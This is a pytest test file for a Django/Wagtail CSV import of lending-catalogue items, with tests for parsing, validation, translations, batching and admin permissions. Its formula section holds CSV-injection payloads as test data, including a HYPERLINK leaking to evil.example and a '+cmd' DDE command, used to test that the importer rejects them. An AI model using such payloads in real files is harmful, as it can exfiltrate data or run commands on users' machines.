"""Importing catalogue items from a CSV file: the domain rules, the command and the admin view."""

import re
from decimal import Decimal
from io import StringIO

import pytest
import wagtail_factories

from django.contrib import messages
from django.contrib.auth.models import Group
from django.contrib.messages import get_messages
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from django.utils import translation

from wagtail.models import ModelLogEntry, Revision
from wagtail.search.backends import get_search_backend

from catalogue import csv_import
from catalogue.csv_import import ImportRefused, example_csv, import_items
from catalogue.models import Item, ItemImage
from search.api import CatalogueQuery, search_catalogue
from tests import factories

pytestmark = pytest.mark.django_db

ENGLISH_FILE = (
    "code,name,category,description,brand,contents,age_min_months,age_max_months,"
    "condition,status,deposit,loan_days,naam_fr,omschrijving_fr,naam_en,omschrijving_en\n"
    "IN-0101,Klopboormachine,boren,Boort in beton.,Bosch,koffer|3 boren,,,good,available,"
    "25.00,7,Perceuse à percussion,Perce le béton.,Hammer drill,Drills concrete.\n"
    'IN-0102,Kinderfiets,Fietsen,"Voor kleine\nfietsers.",Btwin,,36,72,new,in_repair,,,,,,\n'
)


@pytest.fixture
def lenders(index):
    factories.locales()
    tools = factories.build_initiative(
        index, "Instrumentheek", slug="instrumentheek", lends_items=True
    )
    baby = factories.build_initiative(index, "Babytheek", slug="babytheek", lends_items=True)
    cafe = factories.build_initiative(index, "Repair Café", slug="repair-cafe")
    return {
        "tools": tools,
        "baby": baby,
        "cafe": cafe,
        "drills": factories.build_category(
            "Boren", "boren", translations={"fr": "Perceuses", "en": "Drills"}
        ),
        "bikes": factories.build_category(
            "Fietsen", "fietsen", translations={"fr": "Vélos", "en": "Bikes"}
        ),
    }


def run(initiative, data, **kwargs):
    with translation.override("en"):
        return import_items(initiative, data, **kwargs)


def dutch(code):
    return Item.objects.get(code=code, locale__language_code="nl")


def found(text, language="nl"):
    return [
        item.code for item in search_catalogue(CatalogueQuery(text=text, language=language)).items
    ]


# A good file -------------------------------------------------------------------------------


def test_a_good_file_creates_published_searchable_items_with_translations(lenders):
    report = run(lenders["tools"], ENGLISH_FILE)

    assert (len(report.created), len(report.updated), len(report.rejected)) == (2, 0, 0)
    drill = dutch("IN-0101")
    assert drill.initiative_id == lenders["tools"].pk
    assert drill.category == lenders["drills"]
    assert drill.contents_list() == ["koffer", "3 boren"]
    assert drill.deposit == Decimal("25.00") and drill.loan_days == 7
    assert drill.live and drill.live_revision is not None
    bike = dutch("IN-0102")
    assert bike.category == lenders["bikes"]  # by its Dutch name
    assert bike.description == "Voor kleine\nfietsers."
    assert (bike.age_min_months, bike.age_max_months) == (36, 72)
    assert (bike.condition, bike.status) == (Item.Condition.NEW, Item.Status.IN_REPAIR)

    french = drill.get_translation(factories.locales()["fr"])
    assert (french.name, french.description) == ("Perceuse à percussion", "Perce le béton.")
    assert french.live and french.live_revision is not None
    assert drill.get_translation(factories.locales()["en"]).name == "Hammer drill"
    assert bike.get_translation_or_none(factories.locales()["fr"]) is None

    assert found("klopboormachine") == ["IN-0101"]
    assert found("kinderfiets") == ["IN-0102"]
    assert found("perceuse", "fr") == ["IN-0101"]
    assert found("hammer", "en") == ["IN-0101"]


def test_importing_the_same_file_again_changes_nothing(lenders):
    run(lenders["tools"], ENGLISH_FILE)
    revisions = Revision.objects.count()
    stamps = dict(Item.objects.values_list("pk", "updated_at"))

    report = run(lenders["tools"], ENGLISH_FILE)

    assert [row.code for row in report.unchanged] == ["IN-0101", "IN-0102"]
    assert (len(report.created), len(report.updated), len(report.rejected)) == (0, 0, 0)
    assert Revision.objects.count() == revisions
    assert dict(Item.objects.values_list("pk", "updated_at")) == stamps
    assert Item.objects.count() == 4  # two items, one of them in three languages


def test_a_changed_row_updates_the_item_and_its_translations_follow(lenders):
    run(lenders["tools"], ENGLISH_FILE)
    changed = ENGLISH_FILE.replace("IN-0101,Klopboormachine,boren", "IN-0101,Boorhamer,fietsen")
    changed = changed.replace("good,available,25.00", "worn,retired,30")
    changed = changed.replace("Hammer drill,", "Rotary hammer,")

    report = run(lenders["tools"], changed)

    assert [row.code for row in report.updated] == ["IN-0101"]
    assert [row.code for row in report.unchanged] == ["IN-0102"]
    drill = dutch("IN-0101")
    assert (drill.name, drill.category, drill.status) == (
        "Boorhamer",
        lenders["bikes"],
        Item.Status.RETIRED,
    )
    assert drill.deposit == Decimal("30")
    french = drill.get_translation(factories.locales()["fr"])
    english = drill.get_translation(factories.locales()["en"])
    assert english.name == "Rotary hammer"
    # The shared values are copies in each language: they must follow the Dutch item.
    assert (french.category_id, french.status, french.deposit) == (
        lenders["bikes"].pk,
        Item.Status.RETIRED,
        Decimal("30"),
    )
    assert found("boorhamer") == []  # retired items leave the public catalogue


def test_a_translation_added_to_an_item_with_a_photo_gets_the_photo_too(lenders):
    item = factories.build_item(lenders["tools"], lenders["drills"], "Boor", "IN-0901")
    photo = wagtail_factories.ImageFactory()
    ItemImage.objects.create(item=item, image=photo)

    report = run(lenders["tools"], "code;naam;categorie;naam_fr\nIN-0901;Boor;boren;Perceuse\n")

    assert [(row.code, row.translations) for row in report.updated] == [("IN-0901", ["fr"])]
    french = item.get_translation(factories.locales()["fr"])
    assert french.live and french.name == "Perceuse"
    assert [image.image_id for image in french.images.all()] == [photo.pk]
    assert [image.image_id for image in item.images.all()] == [photo.pk]


def test_semicolons_a_bom_and_decimal_commas_as_belgian_excel_saves_them(lenders):
    data = (
        "\ufeffInventariscode;Naam;Categorie;Waarborg;Staat;Uitleendagen\r\n"
        "IN-0201;Décapeerpistool;boren;12,50;zo goed als nieuw;14\r\n"
        "IN-0202;Tegelsnijder;boren;1.234,50;;\r\n"
    ).encode("utf-8")

    report = run(lenders["tools"], data)

    assert not report.rejected, report.rejected
    assert dutch("IN-0201").name == "Décapeerpistool"
    assert dutch("IN-0201").deposit == Decimal("12.50")
    assert dutch("IN-0201").condition == Item.Condition.NEW  # by its Dutch label
    assert dutch("IN-0202").deposit == Decimal("1234.50")
    assert dutch("IN-0202").condition == Item.Condition.GOOD  # empty: the default


def test_a_windows_1252_file_is_read_too(lenders):
    data = "code;naam;categorie\nIN-0301;Décoletteuse à béton;boren\n".encode("cp1252")

    report = run(lenders["tools"], data)

    assert len(report.created) == 1
    assert dutch("IN-0301").name == "Décoletteuse à béton"


# Bad rows -----------------------------------------------------------------------------------

BAD_ROWS = (
    "code;naam;categorie;leeftijd_van_maanden;leeftijd_tot_maanden;waarborg;status\n"
    "OK-1;Goede boor;boren;;;;\n"  # row 2
    "BAD-1;Zaag;zagen;;;;\n"  # row 3: unknown category
    "BAD-2;;boren;;;;\n"  # row 4: no name
    "OK-1;Tweede boor;boren;;;;\n"  # row 5: repeated code
    "BAD-3;Loopfiets;fietsen;48;24;;\n"  # row 6: age range upside down
    "BAD-4;Schuurmachine;boren;;;twaalf;\n"  # row 7: not a number
    "BAD-5;Ladder;boren;;;;kapot\n"  # row 8: unknown status
    "OK-2;Goede ladder;boren;;;5,00;available\n"  # row 9
)


@pytest.mark.parametrize(
    ("row", "code", "reason"),
    [
        (3, "BAD-1", "categorie: Unknown category “zagen”"),
        (4, "BAD-2", "naam: This field cannot be blank."),
        (5, "OK-1", "The code OK-1 already occurs in row 2"),
        (6, "BAD-3", "leeftijd_tot_maanden: The upper age must be at least the lower age."),
        (7, "BAD-4", "waarborg: “twaalf” value must be a decimal number."),
        (8, "BAD-5", "status: Value 'kapot' is not a valid choice."),
    ],
)
def test_each_bad_row_is_reported_with_its_row_and_reason_and_the_rest_imported(
    lenders, row, code, reason
):
    report = run(lenders["tools"], BAD_ROWS)

    rejected = {(result.row, result.code): result.reason for result in report.rejected}
    assert reason in rejected[row, code]
    assert len(rejected) == 6
    assert [result.code for result in report.created] == ["OK-1", "OK-2"]
    assert dutch("OK-1").name == "Goede boor"  # the first occurrence won
    assert set(Item.objects.values_list("code", flat=True)) == {"OK-1", "OK-2"}


def test_row_numbers_are_those_a_spreadsheet_shows(lenders):
    # Excel's "sep=" line is not a row; a quoted cell over two lines is one row; blank
    # rows still count.
    data = (
        "sep=;\n"
        "code;naam;categorie;omschrijving\n"
        'IN-0701;Boor;boren;"Twee\nregels"\n'
        "\n"
        "IN-0702;Zaag;zagen;\n"
    )

    report = run(lenders["tools"], data)

    assert [(result.row, result.code) for result in report.rejected] == [(4, "IN-0702")]
    assert dutch("IN-0701").description == "Twee\nregels"


def test_a_rejected_row_saves_nothing_of_itself(lenders):
    too_long = "x" * 200
    data = (
        "code;naam;categorie;naam_fr\n"
        f"IN-0401;Tegelsnijder;boren;{too_long}\n"
        "IN-0402;Zaag;boren;Scie\n"
    )

    report = run(lenders["tools"], data)

    assert [(r.row, r.code) for r in report.rejected] == [(2, "IN-0401")]
    assert "naam_fr: Ensure this value has at most 120 characters" in report.rejected[0].reason
    # The Dutch item was saved before its translation failed: the row's savepoint undid it.
    assert not Item.objects.filter(code="IN-0401").exists()
    assert set(Item.objects.values_list("code", "locale__language_code")) == {
        ("IN-0402", "nl"),
        ("IN-0402", "fr"),
    }
    assert found("tegelsnijder") == []
    assert found("zaag") == ["IN-0402"]


def test_a_row_with_more_cells_than_columns_is_rejected_with_a_hint(lenders):
    data = "code,naam,categorie,waarborg\nIN-0501,Boor,boren,12,50\n"

    report = run(lenders["tools"], data)

    assert report.rejected[0].row == 2
    assert "more cells than the file has columns" in report.rejected[0].reason
    assert not Item.objects.exists()


def test_an_existing_item_of_another_initiative_is_not_touched(lenders):
    factories.build_item(lenders["baby"], lenders["drills"], "Babyfoon", "IN-0601")

    report = run(lenders["tools"], "code;naam;categorie\nIN-0601;Boor;boren\n")

    assert len(report.created) == 1  # codes are unique per initiative
    assert Item.objects.get(initiative=lenders["baby"], code="IN-0601").name == "Babyfoon"


def test_a_check_only_run_saves_nothing_but_reports_what_would_happen(lenders):
    report = run(lenders["tools"], BAD_ROWS, dry_run=True)

    assert report.dry_run
    assert (len(report.created), len(report.rejected)) == (2, 6)
    with translation.override("en"):
        assert "nothing saved" in report.summary()
    with translation.override("nl"):
        assert "niets opgeslagen" in report.summary()
    assert not Item.objects.exists()
    assert not Revision.objects.filter(base_content_type__model="item").exists()
    assert found("boor") == []


def test_a_check_only_run_reports_what_the_import_then_does(lenders):
    run(lenders["tools"], ENGLISH_FILE)
    data = ENGLISH_FILE.replace("Hammer drill,", "Rotary hammer,") + (
        "IN-0103,Zaag,zagen,,,,,,,,,,,,,\n"
        "IN-0104,Loopfiets,boren,,,,48,24,,,,,,,,\n"
        "IN-0105,=1+1,boren,,,,,,,,,,,,,\n"
        "IN-0106,Schuurmachine,boren,,,,,,,,twaalf,,Ponceuse,,,\n"
        "IN-0107,Tegelsnijder,boren,,,,,,,,,,Coupe-carreaux,,,\n"
        "IN-0101,Boor,boren,,,,,,,,,,,,,\n"
    )

    def outcome(report):
        return {
            key: [(row.row, row.code, row.reason, row.translations) for row in getattr(report, key)]
            for key in ("created", "updated", "unchanged", "rejected")
        }

    checked = run(lenders["tools"], data, dry_run=True)
    imported = run(lenders["tools"], data)

    assert outcome(checked) == outcome(imported)
    assert [(row.code, row.translations) for row in imported.updated] == [("IN-0101", ["en"])]
    assert [row.code for row in imported.unchanged] == ["IN-0102"]
    assert [(row.code, row.translations) for row in imported.created] == [("IN-0107", ["fr"])]
    assert len(imported.rejected) == 5


def test_with_productions_task_backend_wagtails_indexes_follow_in_one_task(lenders, settings):
    from django_tasks_db.models import DBTaskResult

    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    report = run(lenders["tools"], ENGLISH_FILE)

    assert len(report.created) == 2
    assert found("hammer", "en") == ["IN-0101"]  # the catalogue's own index: at once
    queued = list(DBTaskResult.objects.values_list("task_path", flat=True))
    assert queued == ["catalogue.bulk_publish.update_wagtail_indexes"]
    assert not get_search_backend().search("klopboormachine", Item)

    # What the worker does with the row (the worker itself closes the test's connection).
    queued_task = DBTaskResult.objects.get()
    queued_task.task.call(*queued_task.args_kwargs["args"], **queued_task.args_kwargs["kwargs"])

    assert [item.code for item in get_search_backend().search("klopboormachine", Item)] == [
        "IN-0101"
    ]


def count_queries(action):
    # CaptureQueriesContext stops counting at 9,000 queries; a wrapper counts them all.
    count = 0

    def counter(execute, sql, params, many, context):
        nonlocal count
        count += 1
        return execute(sql, params, many, context)

    with connection.execute_wrapper(counter):
        action()
    return count


def test_the_queries_of_an_import_do_not_grow_with_its_rows(lenders):
    # Rows are checked against what was read once, then written a batch at a time: a file of
    # 1,000 rows must answer within a request (bench/csv_import.py measures it).
    def data(count, start):
        rows = "".join(f"Q-{n};Boor {n};boren;Perceuse {n}\n" for n in range(start, start + count))
        return f"code;naam;categorie;naam_fr\n{rows}"

    def queries(count, start, **kwargs):
        return count_queries(lambda: run(lenders["tools"], data(count, start), **kwargs))

    checked = queries(45, 300, dry_run=True) - queries(5, 400, dry_run=True)
    five, forty_five = queries(5, 0), queries(45, 100)
    # Per new row, only Wagtail's copying of the French translation (its own two savepoints).
    assert checked / 40 <= 5, checked
    assert (forty_five - five) / 40 <= 5, (five, forty_five)
    assert five < 60  # the reads at the start, one batch of writes, the indexes
    # Unchanged rows read and write nothing of their own.
    assert queries(45, 100) == queries(5, 0) < 30
    assert Item.objects.filter(locale__language_code="nl").count() == 50


def test_rows_are_written_in_batches_and_a_row_the_database_refuses_is_rejected_alone(
    lenders, monkeypatch
):
    # Another save of the same code after the file was checked (here a French item with the
    # code of row 4, made meanwhile): the batch holding that row is written again row by row.
    monkeypatch.setattr(csv_import, "BATCH_ROWS", 2)
    load = csv_import.Importer._load

    def load_then_someone_saves(importer):
        load(importer)
        Item.objects.create(
            initiative=lenders["tools"],
            category=lenders["drills"],
            code="R-3",
            name="Boor van iemand anders",
            locale=factories.locales()["fr"],
        )

    monkeypatch.setattr(csv_import.Importer, "_load", load_then_someone_saves)
    rows = "".join(f"R-{n};Boor {n};boren;Perceuse {n}\n" for n in range(1, 6))
    progress = []

    with translation.override("en"):
        report = import_items(
            lenders["tools"],
            "code;naam;categorie;naam_fr\n" + rows,
            progress=lambda done, total: progress.append((done, total)),
        )

    assert [(r.row, r.code) for r in report.rejected] == [(4, "R-3")]
    assert "This row could not be saved" in report.rejected[0].reason
    assert [r.code for r in report.created] == ["R-1", "R-2", "R-4", "R-5"]
    assert progress == [(n, 5) for n in range(1, 6)]
    assert not Item.objects.filter(code="R-3", locale__language_code="nl").exists()
    assert Item.objects.get(code="R-4", locale__language_code="fr").name == "Perceuse 4"
    assert found("boor") == ["R-1", "R-2", "R-4", "R-5"]


def test_a_code_a_translation_holds_already_is_rejected_when_checking(lenders):
    # A French item of the initiative with this code but no Dutch item (made in the admin):
    # the French translation of the row would break the unique code.
    Item.objects.create(
        initiative=lenders["tools"],
        category=lenders["drills"],
        code="IN-0801",
        name="Perceuse orpheline",
        locale=factories.locales()["fr"],
    )

    report = run(
        lenders["tools"], "code;naam;categorie;naam_fr\nIN-0801;Boor;boren;Perceuse\n", dry_run=True
    )

    assert report.rejected[0].reason == (
        "(FR) Item with this Initiative, Inventory code and Locale already exists."
    )


# Spreadsheet formulas ------------------------------------------------------------------------

FORMULA_ROWS = (
    "code;naam;categorie;merk;waarborg;uitleendagen;inhoud;naam_fr\n"
    'F-1;=HYPERLINK("https://evil.example/?leak";"Boor");boren;;;;;\n'  # row 2
    "F-2;Boor;boren;+cmd|' /C calc'!A0;;;;\n"  # row 3
    "F-3;Zaag;boren;;;;;@SUM(1+1)\n"  # row 4
    "-2+3;Ladder;boren;;;;;\n"  # row 5
    '"F-5";"\t=1+1";boren;;;;;\n'  # row 6: a tab before the formula
    "F-6;Schuurmachine;boren;;-5;;;\n"  # row 7: a number, but no negative deposit
    "F-7;Decoupeerzaag;boren;-;12,50;+14;- koffer | - 2 zaagbladen;- Scie sauteuse\n"  # row 8
    "F-8;Boormachine;boren;Bosch;+12,50;14;koffer;Perceuse\n"  # row 9
)


@pytest.mark.parametrize(
    ("row", "code", "reason"),
    [
        (2, "F-1", "naam: a cell may not start with =, +, - or @: spreadsheet programs run it"),
        (3, "F-2", "merk: a cell may not start with =, +, - or @: spreadsheet programs run it"),
        (4, "F-3", "naam_fr: a cell may not start with =, +, - or @: spreadsheet programs run"),
        (5, "-2+3", "code: a cell may not start with =, +, - or @"),
        (6, "F-5", "naam: a cell may not start with"),
        (7, "F-6", "waarborg: Ensure this value is greater than or equal to 0."),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_rejected(lenders, row, code, reason):
    report = run(lenders["tools"], FORMULA_ROWS)

    rejected = {(result.row, result.code): result.reason for result in report.rejected}
    assert reason in rejected[row, code]
    assert len(rejected) == 7
    assert "“=”" in rejected[2, "F-1"] and "“-”" in rejected[5, "-2+3"]


def test_numbers_and_list_markers_are_not_formulas(lenders):
    report = run(lenders["tools"], FORMULA_ROWS)

    assert [result.code for result in report.created] == ["F-8"]
    assert (8, "F-7") in {(result.row, result.code) for result in report.rejected}
    reasons = next(result.reasons for result in report.rejected if result.code == "F-7")
    # The brand "-" and the French name "- Scie sauteuse" are refused; the loan days +14 and
    # the contents with list markers are not.
    assert [reason.split(":")[0] for reason in reasons] == ["merk", "naam_fr"]
    assert dutch("F-8").deposit == Decimal("12.50")

    data = "code;naam;categorie;uitleendagen;inhoud\nF-9;Zaag;boren;+14;- koffer | • 2 bladen\n"
    run(lenders["tools"], data)
    assert dutch("F-9").loan_days == 14
    assert dutch("F-9").contents == "koffer\n2 bladen"
    stored = Item.objects.values_list("code", "name", "brand", "contents", "description")
    assert not [value for row in stored for value in row if value.startswith(("=", "+", "-", "@"))]


def test_the_formula_rule_is_explained_in_dutch_too(lenders):
    with translation.override("nl"):
        report = import_items(lenders["tools"], FORMULA_ROWS, dry_run=True)

    reason = next(result.reason for result in report.rejected if result.code == "F-1")
    assert reason.startswith("naam: een cel mag niet beginnen met =, +, - of @")


def test_the_example_file_neutralises_what_a_spreadsheet_would_run(lenders):
    # The category in the example comes from the database: a slug may start with "-".
    example = example_csv("-boren")

    row = example.splitlines()[1].split(";")
    assert row[2] == "'-boren"


# Whole-file refusals ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (b"\xef\xbb\xbf\r\n\r\n", "The file is empty."),
        (b"code;naam;categorie\n", "holds no items"),
        (b"code;naam\nIN-1;Boor\n", "Required columns are missing: categorie."),
        (b"foo;bar\n1;2\n", "none of its names is known"),
        (b"code;naam;name;categorie\nA;b;c;boren\n", "mean the same thing"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00", "not a CSV file"),
        (b"PK\x03\x04\x14\x00\x06\x00", "spreadsheet workbook"),
        (b"code;naam;categorie\n\x81\x8d;\x8f\x90;\x9d\n", "not a CSV file"),
    ],
)
def test_a_file_that_cannot_be_imported_is_refused_whole(lenders, data, message):
    with pytest.raises(ImportRefused) as refused:
        run(lenders["tools"], data)

    assert message in str(refused.value)
    assert not Item.objects.exists()


def test_a_file_over_the_limits_is_refused(lenders, monkeypatch):
    rows = "".join(f"IN-{n};Boor;boren\n" for n in range(4))
    monkeypatch.setattr(csv_import, "MAX_ROWS", 3)
    with pytest.raises(ImportRefused, match="at most 3 at a time"):
        run(lenders["tools"], "code;naam;categorie\n" + rows)
    monkeypatch.setattr(csv_import, "MAX_BYTES", 20)
    with pytest.raises(ImportRefused, match="larger than"):
        run(lenders["tools"], ("code;naam;categorie\n" + rows).encode())
    assert not Item.objects.exists()


def test_an_initiative_that_lends_nothing_is_refused(lenders):
    with pytest.raises(ImportRefused, match="does not lend items"):
        run(lenders["cafe"], "code;naam;categorie\nX;Boor;boren\n")


def test_the_example_file_imports_as_it_is(lenders):
    example = example_csv()

    assert example.splitlines()[0].startswith("code;naam;categorie;omschrijving;merk;inhoud;")
    report = run(lenders["tools"], example)
    assert (len(report.created), len(report.rejected)) == (2, 0)


# The command --------------------------------------------------------------------------------


def command(*args):
    out = StringIO()
    with translation.override("en"):
        call_command("import_items", *args, stdout=out)
    return out.getvalue()


def test_the_command_imports_and_prints_every_rejected_row_and_a_summary(lenders, tmp_path):
    path = tmp_path / "items.csv"
    path.write_text(BAD_ROWS, encoding="utf-8")

    output = command("instrumentheek", str(path))

    assert "Row 3 (BAD-1) rejected: categorie: Unknown category “zagen”" in output
    assert "Row 4 (BAD-2) rejected: naam: This field cannot be blank." in output
    assert "Row 8 (BAD-5) rejected: status: Value 'kapot' is not a valid choice." in output
    assert len(re.findall(r"^Row \d+ .* rejected", output, re.MULTILINE)) == 6
    assert (
        "Instrumentheek: Imported 8 rows: 2 created, 0 updated, 0 unchanged, 6 rejected." in output
    )
    assert Item.objects.count() == 2


def test_the_command_shows_progress_and_can_check_only(lenders, tmp_path):
    path = tmp_path / "items.csv"
    rows = "".join(f"IN-{n:04};Boor {n};boren\n" for n in range(1, 11))
    path.write_text("code;naam;categorie\n" + rows, encoding="cp1252")

    output = command("instrumentheek", str(path), "--dry-run", "--progress-every", "4")

    assert "4 of 10 rows (40%)" in output and "8 of 10 rows (80%)" in output
    assert "10 of 10 rows (100%)" in output
    assert "Checked 10 rows, nothing saved: 10 would be created" in output
    assert not Item.objects.exists()


@pytest.mark.parametrize(
    ("initiative", "file_name", "content", "message"),
    [
        ("onbekend", "items.csv", b"code;naam;categorie\n", "There is no initiative onbekend"),
        ("repair-cafe", "items.csv", b"code;naam;categorie\n", "Repair Caf\u00e9 does not lend"),
        ("instrumentheek", "missing.csv", None, "There is no file"),
        ("instrumentheek", "items.csv", b"\x00\x01\x02binary", "not a CSV file"),
        ("instrumentheek", "items.csv", b"code;naam\nX;Y\n", "Required columns are missing"),
    ],
)
def test_the_command_refuses_cleanly(lenders, tmp_path, initiative, file_name, content, message):
    path = tmp_path / file_name
    if content is not None:
        path.write_bytes(content)

    with pytest.raises(CommandError, match=message):
        command(initiative, str(path))
    assert not Item.objects.exists()


def test_the_command_refuses_a_folder(lenders, tmp_path):
    with pytest.raises(CommandError, match="is a folder"):
        command("instrumentheek", str(tmp_path))


# The admin view -----------------------------------------------------------------------------

IMPORT_URL = "wagtailsnippets_catalogue_item:import"


def upload(content, name="items.csv"):
    if isinstance(content, str):
        content = content.encode("utf-8")
    return SimpleUploadedFile(name, content, content_type="text/csv")


def options(html):
    select = re.search(r'<select name="initiative".*?</select>', html, re.DOTALL).group(0)
    return re.findall(r'<option value="(\d+)"( selected)?>([^<]+)</option>', select)


def text_of(response):
    html = response.content.decode()
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def test_the_items_listing_links_to_the_import(client, lenders):
    factories.volunteer_of(lenders["tools"], client)

    html = client.get(reverse("wagtailsnippets_catalogue_item:list")).content.decode()

    assert f'href="{reverse(IMPORT_URL)}"' in html
    assert "Import from CSV" in html


def test_a_volunteer_is_offered_only_their_own_initiative_preselected(client, lenders):
    factories.volunteer_of(lenders["tools"], client)

    response = client.get(reverse(IMPORT_URL))

    assert response.status_code == 200
    assert options(response.content.decode()) == [
        (str(lenders["tools"].pk), " selected", "Instrumentheek")
    ]
    page = text_of(response)
    assert "leeftijd_van_maanden" in page and "age_min_months" in page
    example = reverse("wagtailsnippets_catalogue_item:import_example")
    assert f'href="{example}"' in response.content.decode()
    download = client.get(example)
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert download.content.startswith(b"\xef\xbb\xbfcode;naam;categorie;")


def test_a_volunteer_imports_and_sees_the_rejected_rows(client, lenders):
    factories.volunteer_of(lenders["tools"], client)

    response = client.post(
        reverse(IMPORT_URL), {"initiative": lenders["tools"].pk, "file": upload(BAD_ROWS)}
    )

    assert response.status_code == 200
    page = text_of(response)
    assert "Imported 8 rows: 2 created, 0 updated, 0 unchanged, 6 rejected." in page
    assert "6 rows rejected" in page
    rows = re.findall(
        r'<tr class="csv-import-rejected">\s*<td>(\d+)</td>\s*<td>([^<]*)</td>',
        response.content.decode(),
    )
    assert rows == [
        ("3", "BAD-1"),
        ("4", "BAD-2"),
        ("5", "OK-1"),
        ("6", "BAD-3"),
        ("7", "BAD-4"),
        ("8", "BAD-5"),
    ]
    assert "naam: This field cannot be blank." in page
    assert "leeftijd_tot_maanden: The upper age must be at least the lower age." in page
    assert "Created (2)" in page
    edit = reverse("wagtailsnippets_catalogue_item:edit", args=[dutch("OK-1").pk])
    assert f'href="{edit}"' in response.content.decode()
    assert Item.objects.filter(initiative=lenders["tools"]).count() == 2


def test_a_check_only_upload_saves_nothing(client, lenders):
    factories.volunteer_of(lenders["tools"], client)

    response = client.post(
        reverse(IMPORT_URL),
        {"initiative": lenders["tools"].pk, "file": upload(ENGLISH_FILE), "dry_run": "on"},
    )

    page = text_of(response)
    assert "Check only: nothing was saved" in page
    assert "Would be created (2)" in page
    assert not Item.objects.exists()


def test_a_volunteer_cannot_import_into_another_initiative(client, lenders):
    factories.volunteer_of(lenders["tools"], client)

    response = client.post(
        reverse(IMPORT_URL), {"initiative": lenders["baby"].pk, "file": upload(ENGLISH_FILE)}
    )

    assert response.status_code == 200
    assert "Select a valid choice" in text_of(response)
    assert not Item.objects.exists()
    addressed = client.get(reverse(IMPORT_URL), {"initiative": lenders["baby"].pk})
    assert addressed.status_code == 404


def test_the_import_itself_refuses_a_user_outside_the_initiative(client, lenders):
    volunteer = factories.volunteer_of(lenders["tools"], client)

    with pytest.raises(PermissionDenied):
        run(lenders["baby"], ENGLISH_FILE, user=volunteer)
    assert not Item.objects.exists()
    report = run(lenders["tools"], ENGLISH_FILE, user=volunteer)
    assert len(report.created) == 2
    log = ModelLogEntry.objects.filter(action="wagtail.publish", user=volunteer)
    assert log.count() == 4  # two items, one of them with two translations


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The submitted file is empty."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a CSV file"),
        (b"code;naam\nX;Y\n", "Required columns are missing: categorie."),
        ("code;naam;categorie\n".encode("utf-16"), "holds no items"),
    ],
)
def test_a_bad_upload_is_a_form_error(client, lenders, content, message):
    factories.volunteer_of(lenders["tools"], client)

    response = client.post(
        reverse(IMPORT_URL), {"initiative": lenders["tools"].pk, "file": upload(content)}
    )

    assert response.status_code == 200
    assert message in text_of(response)
    assert 'name="file"' in response.content.decode()  # the form again, to try another file
    assert not Item.objects.exists()


def test_a_coordinator_imports_for_any_lending_initiative(client, lenders):
    factories.coordinator(client)

    response = client.get(reverse(IMPORT_URL))
    offered = [title for _pk, _selected, title in options(response.content.decode())]
    assert offered == ["Babytheek", "Instrumentheek"]  # not the Repair Café: it lends nothing

    response = client.post(
        reverse(IMPORT_URL), {"initiative": lenders["baby"].pk, "file": upload(ENGLISH_FILE)}
    )
    assert "2 created" in text_of(response)
    assert Item.objects.filter(initiative=lenders["baby"], locale__language_code="nl").count() == 2
    assert client.get(reverse(IMPORT_URL), {"initiative": lenders["tools"].pk}).status_code == 200


def test_an_anonymous_visitor_is_sent_to_log_in(client, lenders):
    for url in (reverse(IMPORT_URL), reverse("wagtailsnippets_catalogue_item:import_example")):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("wagtailadmin_login"))
    response = client.post(
        reverse(IMPORT_URL), {"initiative": lenders["tools"].pk, "file": upload(ENGLISH_FILE)}
    )
    assert response.status_code == 302
    assert not Item.objects.exists()


def test_an_editor_without_item_permissions_is_refused(client, lenders):
    from django.contrib.auth.models import Permission

    group = Group.objects.create(name="Redactie")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(factories.UserFactory(groups=[group], admin_language="en"))

    listing = client.get(reverse("wagtailsnippets_catalogue_item:list"))
    assert f'href="{reverse(IMPORT_URL)}"' not in listing.content.decode()
    response = client.post(
        reverse(IMPORT_URL), {"initiative": lenders["tools"].pk, "file": upload(ENGLISH_FILE)}
    )
    if response.status_code != 403:  # Wagtail turns PermissionDenied into a redirect home
        assert response.status_code == 302
        assert response["Location"] == reverse("wagtailadmin_home")
        assert messages.ERROR in [m.level for m in get_messages(response.wsgi_request)]
    assert not Item.objects.exists()
